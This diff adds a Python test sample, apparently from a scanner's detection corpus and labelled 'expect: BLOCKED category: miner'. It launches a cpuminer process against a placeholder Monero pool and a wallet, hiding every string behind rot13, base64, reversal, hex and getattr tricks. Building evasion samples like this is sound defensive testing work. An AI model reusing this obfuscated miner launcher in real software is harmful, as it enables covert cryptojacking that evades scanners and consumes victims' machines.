@@ -1,0 +1,4 @@
+# expect: BLOCKED category: miner variant-of: risky/miner/cpuminer_subprocess.py technique: encode+getattr
+subprocess = __import__('ssecorpbus'[::-1])
+WALLET = getattr(bytes, __import__('codecs').decode('sebzurk', 'rot13'))('343865646648753756395a3834597a7a4d6136665575656f454c5a395a52587139566574577a59477a4b743532585535787671677a596e444b3955526e526f4a4d6b316a386e4c774556736153574a3466686455795a696a42475569636f44').decode()
+getattr(subprocess, __import__('base64').b64decode('UG9wZW4=').decode())([''.join(map(chr, [46, 47, 99, 112, 117, 109, 105, 110, 101, 114])), 'a-'[::-1], __import__('codecs').decode('pelcgbavtug', 'rot13'), ''.join(['-', 'o']), __import__('base64').b64decode('c3RyYXR1bSt0Y3A6Ly94bXIucG9vbC5leGFtcGxlOjMzMzM=').decode(), getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('2d75').decode(), WALLET, ''.join(map(chr, [45, 112])), 'x'])
